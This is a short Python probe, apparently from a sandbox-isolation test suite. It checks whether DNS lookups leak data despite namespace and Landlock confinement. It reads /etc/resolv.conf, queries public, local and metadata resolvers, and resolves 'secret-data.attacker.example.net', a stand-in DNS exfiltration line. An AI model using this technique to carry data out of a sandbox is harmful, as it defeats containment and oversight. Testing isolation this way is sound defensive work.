"""Resolve names, which carries data out even where nothing answers: resolver, name servers, nscd.

levels: namespaces landlock
within: 4
"""

import re
import socket


def resolves(name):
    return [it for it in socket.getaddrinfo(name, 80) if not it[4][0].startswith(("127.", "::1"))]


def asks(server):
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(0.2)
        it.sendto(question, (server, 53))
        return it.recv(512)


servers = {"1.1.1.1", "8.8.8.8", "127.0.0.53", "10.0.2.3", "169.254.169.253"}
attempt("", lambda: servers.update(re.findall(r"nameserver (\d[\d.]+)", read("/etc/resolv.conf").decode())))
for server in servers:
    attempt(f"asked {server}", asks, server)
for name in ("example.com", "secret-data.attacker.example.net"):
    attempt(f"resolved {name}", resolves, name)
verdict()
